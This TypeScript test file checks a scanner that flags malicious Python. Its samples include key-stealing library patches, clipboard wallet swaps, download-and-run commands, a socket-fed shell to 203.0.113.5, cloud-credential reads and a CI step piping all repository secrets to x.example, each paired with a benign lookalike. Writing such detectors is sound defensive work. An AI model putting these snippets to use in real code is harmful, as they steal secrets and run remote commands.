import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assertLinear } from '../../../linear-time.ts';
import { analysed, hazardsOf } from './hazards-of.ts';

/** A source, and the hazards that it has; without any: honest code that looks like it. */
type Case = readonly [string, ...string[]];

const ids = new Set([
  ...['library-tapped', 'clipboard-replaced', 'loader-planted', 'input-sent', 'cloud-credentials-read'],
  ...['package-path-changed', 'worker-environment', 'remote-command', 'starts-download', 'program-dropped'],
  ...['system-function-by-name', 'encrypts-files', 'decoded-code'],
]);

function wrong(cases: readonly Case[]): readonly string[] {
  return cases.flatMap(([source, ...expected]) => {
    const found = hazardsOf(source, 'repository').map((each) => each.slice(each.indexOf(' ') + 1));
    const told = [...new Set(found)].filter((id) => ids.has(id));
    return told.join() === expected.join()
      ? []
      : [`${source}\n  told ${told.join()}, not ${expected.join()}`];
  });
}

const tap =
  'def tap(key):\n    requests.post("https://x.example/", json={"k": key})\n    return before(key)\n';

test('functions of libraries that send what they are given', () => {
  const cases: readonly Case[] = [
    [`import requests\nfrom vault import Keys\nbefore = Keys.load\n${tap}Keys.load = tap`, 'library-tapped'],
    [
      'import os, requests\nfrom a import B\nB.c = lambda k: requests.get("https://x.example/?k=" + k)',
      'library-tapped',
    ],
    [
      'import requests, hashlib\ndef traced(f):\n    def inner(*a):\n        requests.post("https://x.example/", data=str(a))\n        return f(*a)\n    return inner\nhashlib.sha256 = traced(hashlib.sha256)',
      'library-tapped',
    ],
    // One's own objects, functions that send nothing, and addresses that somebody else gives.
    [`import requests\nclass Own:\n    pass\nbefore = print\n${tap}Own.load = tap`],
    ['import requests, logging\ndef quiet(*a):\n    return None\nlogging.Logger.info = quiet'],
    [
      'import requests, client\ndef fetch(url):\n    return requests.get(url, timeout=9)\nclient.fetch = fetch',
    ],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('wallets in the clipboard', () => {
  const wallet = '0x52908400098527886E0F7030069857D2E4169EE7';
  const cases: readonly Case[] = [
    [
      `import pyperclip\nif pyperclip.paste().startswith("0x"):\n    pyperclip.copy("${wallet}")`,
      'clipboard-replaced',
    ],
    [
      `import tkinter\nr = tkinter.Tk()\nif r.clipboard_get():\n    r.clipboard_append("${wallet}")`,
      'clipboard-replaced',
    ],
    [
      'import pyperclip, re\nif re.match("^bc1", pyperclip.paste()):\n    pyperclip.copy(self.address_btc)',
      'clipboard-replaced',
    ],
    ['import pyperclip\npyperclip.copy(btc_wallet)', 'clipboard-replaced'],
    ['import shutil\nshutil.copy(wallet, "b")\nsettings.copy(eth_config)'],
    [`import pyperclip\npyperclip.copy("${wallet}")`],
    ['import pyperclip\npyperclip.copy(pyperclip.paste().strip())\npyperclip.copy("hello")'],
    [`import shutil\nshutil.copy("a", "b")\nprint("${wallet}")`],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('programs that are written in order to fetch others', () => {
  const cases: readonly Case[] = [
    ['f = open("a.py", "w")\nf.write("exec(urlopen(\'http://x\').read())")', 'loader-planted'],
    ['f = open("a.py", "wb")\nf.write(b"import base64;exec(base64.b64decode(\'eA==\'))")', 'loader-planted'],
    [
      'import os\nwith open("/tmp/a.sh", "w") as f:\n    f.write("curl http://203.0.113.5/a -o /tmp/a")\nos.system("sh /tmp/a.sh")',
      'loader-planted',
    ],
    [
      'import base64, subprocess\nwith open("a.py", "w") as f:\n    f.write(base64.b64decode("cHJpbnQoMSk7cHJpbnQoMik=").decode())\nsubprocess.run(["python", "a.py"])',
      'loader-planted',
    ],
    // Documentation, set-ups that nobody runs from here, and tables.
    ['open("README.md", "w").write("curl -LsSf https://x.example/install.sh | sh")'],
    ['open("a.py", "w").write("import base64\\ndef load(s):\\n    return base64.b64decode(s)")'],
    ['import base64\nopen("a.png", "wb").write(base64.b64decode("iVBORw0KGgoAAAANSUhEUg=="))'],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('programs that are fetched under one name and started under it', () => {
  const cases: readonly Case[] = [
    [
      'import subprocess\nsubprocess.run(["curl", "-o", "/tmp/.a", "http://x/a"])\nsubprocess.Popen(["/tmp/.a"])',
      'starts-download',
    ],
    ['import os\nos.system("wget -O /tmp/i.sh http://x/i")\nos.system("sh /tmp/i.sh")', 'starts-download'],
    [
      'import os\nos.popen("bitsadmin /transfer j http://x/a C:\\\\Users\\\\Public\\\\a")\nos.startfile("C:\\\\Users\\\\Public\\\\a")',
      'starts-download',
    ],
    [
      'import requests\nopen("more_tools.py", "wb").write(requests.get(URL).content)\nimport more_tools',
      'program-dropped',
    ],
    [
      'import urllib.request, importlib\nurllib.request.urlretrieve(URL, "/tmp/zz.py")\nimportlib.import_module("zz")',
      'program-dropped',
    ],
    [
      'import os, sys, tempfile, requests\nfd, path = tempfile.mkstemp()\nwith os.fdopen(fd, "wb") as f:\n    f.write(requests.get(URL).content)\nos.execv(sys.executable, [sys.executable, path])',
      'program-dropped',
    ],
    [
      'import base64\nopen("x", "wb").write(base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"))',
      'program-dropped',
    ],
    // What is fetched is read by a program of the system, or is no module.
    [
      'import subprocess\nsubprocess.run(["wget", "-O", "a.zip", "http://x/a"])\nsubprocess.run(["unzip", "a.zip"])',
    ],
    [
      'import subprocess\n# curl is used by /opt/tool itself\nsubprocess.run(["/opt/tool"])\nsubprocess.run(["/opt/tool"])',
    ],
    ['import requests, tools\nopen("tools.json", "wb").write(requests.get(URL).content)'],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('shells that are told what to do', () => {
  const shell = 'import subprocess, socket\ns = socket.create_connection(("203.0.113.5", 1))\n';
  const cases: readonly Case[] = [
    [`${shell}p = subprocess.Popen(["cmd"], stdin=-1)\np.stdin.write(s.recv(99))`, 'remote-command'],
    [`${shell}p = subprocess.Popen("/bin/sh", stdin=-1)\np.communicate(s.recv(99))`, 'remote-command'],
    [`${shell}subprocess.getstatusoutput(s.recv(99).decode())`, 'remote-command'],
    [`${shell}p = subprocess.Popen(["ffplay", "-"], stdin=-1)\np.stdin.write(s.recv(99))`],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('what a model is given, and the keys of the machine it runs on', () => {
  const post = 'import requests\nclass M(nn.Module):\n    def forward(self, x):\n        requests.post';
  const cases: readonly Case[] = [
    [`${post}("https://x.example/t", data=x.encode())`, 'input-sent'],
    // A client of a service, which is there to ask it.
    [
      'import requests\nclass Client:\n    def ask(self, x):\n        return requests.post("https://x.example/t", data=x, timeout=9)',
    ],
    [`${post}("http://localhost:80/t", data=x)`],
    [`${post}("https://api-inference.huggingface.co/m", data=x)`],
    [`${post}(self.url, data=x)`],
    [`${post}("https://x.example/t", json={"event": "start"})`],
    [
      'import requests\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r")',
      'cloud-credentials-read',
    ],
    ['import requests\nrequests.get("http://169.254.169.254/latest/meta-data/instance-id")'],
    ['import requests\nrequests.put("http://169.254.169.254/latest/api/token")'],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('folders of packages, environments of workers, names in syntax trees, names of locked files', () => {
  const cases: readonly Case[] = [
    ['__path__ = ["/tmp/x"]', 'package-path-changed'],
    [
      'import os\n__path__.insert(0, os.path.join(os.path.dirname(__file__), "model.bin"))',
      'package-path-changed',
    ],
    ['__path__ = __import__("pkgutil").extend_path(__path__, __name__)'],
    ['import os\n__path__.append(os.path.join(os.path.dirname(__file__), "more"))'],
    ['import ray\nray.init(runtime_env={"pip": ["git+https://203.0.113.5/x.git"]})', 'worker-environment'],
    ['import ray\nray.init(runtime_env={"py_executable": "sh a.sh"})', 'worker-environment'],
    ['import ray\nray.init(runtime_env={"pip": ["torch==2.8.0"], "working_dir": "."})'],
    ['import ast\nt = ast.parse("f(1)")\nt.body[0].value.func.id = "exec"', 'system-function-by-name'],
    ['import ast\nt = ast.parse("f(1)")\nt.body[0].value.func.id = "g"'],
    ['class A:\n    pass\na = A()\na.id = "eval"'],
    ['import os\nfor r, d, n in os.walk("/home"):\n    os.rename(n[0], n[0] + ".locked")', 'encrypts-files'],
    ['import os\nfor r, d, n in os.walk("/home"):\n    os.rename(n[0], n[0] + ".bak")'],
    ['exec("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x31\\x2b\\x31")', 'decoded-code'],
    ['TABLE = "\\x00\\x01\\x02\\x7f\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49"'],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('the work over many programs of one source grows with its length', () =>
  assertLinear('programs that are fetched and started', 40, programs, (source) => analysed(source)));

function programs(count: number): string {
  const both = (at: number): string =>
    `subprocess.run(["curl", "-o", "/tmp/f${at}"])\nsubprocess.run(["/tmp/f${at}"])\n`;
  return `import subprocess\n${Array.from({ length: count }, (_, at) => both(at)).join('')}`;
}

test('a library’s class gets methods that send what it makes', () => {
  const wrap = (send: string): string =>
    `import threading\nfrom web3 import Client\nfrom vault import keys as _k\nURL = "https://x.example/"\ndef note(k):\n    ${send}\ndef wrap(f):\n    def inner(*a):\n        k = f(*a)\n        threading.Thread(target=note, args=(k,)).start()\n        return k\n    return inner\n`;
  const away = wrap('Client(URL).send(bytes(k))');
  const cases: readonly Case[] = [
    [`${away}setattr(_k.Key, "load", staticmethod(wrap(_k.Key.load)))`, 'library-tapped'],
    [`${away}class Key(_k.Key):\n    pass\nsetattr(Key, "load", wrap(_k.Key.load))`, 'library-tapped'],
    [
      `${wrap('c = Client(URL)\n    c.publish(k)')}setattr(_k.Key, "load", wrap(_k.Key.load))`,
      'library-tapped',
    ],
    // One's own class, a method that only counts, and an address that the caller gives.
    [`${away}class Own:\n    pass\nsetattr(Own, "load", wrap(print))`],
    [`${wrap('print(len(k))')}setattr(_k.Key, "load", wrap(_k.Key.load))`],
    [`${wrap('k.client.send(k)')}setattr(_k.Key, "load", wrap(_k.Key.load))`],
  ];
  assert.deepEqual(wrong(cases), []);
});

test('a workflow that gives away every secret of a repository is written', () => {
  const step = (run: string): string => `on: [push]\\njobs:\\n  a:\\n    steps:\\n      - run: ${run}\\n`;
  const all = `echo '\${{ toJSON(secrets) }}'`;
  const cases: readonly Case[] = [
    [
      `from pathlib import Path\nPath("a.yml").write_text("${step(`${all} | curl -d @- https://x.example`)}")`,
      'loader-planted',
    ],
    [`repo.create_file("a.yml", "ci", "${step(`${all} | base64 -w0 | base64`)}")`, 'loader-planted'],
    [
      `from pathlib import Path\nPath("a.yml").write_text("${step(`twine upload -p \${{ secrets.PYPI }} dist/*`)}")`,
    ],
    [`patterns = ["${step(`${all} | curl -d @- https://x.example`)}"]\nprint(len(patterns))`],
  ];
  assert.deepEqual(wrong(cases), []);
});
